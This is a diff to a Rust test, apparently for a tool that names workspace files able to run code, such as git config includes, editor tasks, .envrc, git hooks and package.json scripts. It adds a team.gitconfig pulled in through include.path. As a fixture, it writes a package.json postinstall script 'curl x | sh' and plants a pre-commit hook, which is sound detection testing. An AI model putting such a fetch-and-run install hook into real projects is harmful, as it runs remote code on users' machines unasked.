@@ -271,8 +271,11 @@ fn files_that_choose_code_are_named_and_asked_for() {
         let f = Fixture::new(who);
         f.mkdir("ws");
         f.write("ws/package.json", "{\"scripts\": {\"test\": \"true\"}}\n", 0o644);
+        f.write("ws/team.gitconfig", "[user]\n", 0o644);
         checkout(&f, "ws");
-        let script = "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo 'use flake' > .envrc \
+        ok(&f.command("git").args(["config", "include.path", "../team.gitconfig"]).output().unwrap());
+        let script = "echo '[core]' >> team.gitconfig && echo x > local.gitconfig \
+             && mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo 'use flake' > .envrc \
              && printf '#!/bin/sh\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit \
              && git config alias.st status \
              && echo '{\"scripts\": {\"test\": \"true\", \"postinstall\": \"curl x | sh\"}}' > package.json \
@@ -315,6 +318,7 @@ fn files_that_choose_code_are_named_and_asked_for() {
             "all.code-workspace",
             "bom/package.json",
             "q/Cargo.toml",
+            "team.gitconfig  (host git reads it as its own config",
         ] {
             assert!(named.contains(p), "{who:?}: {p} not named in\n{d}");
         }
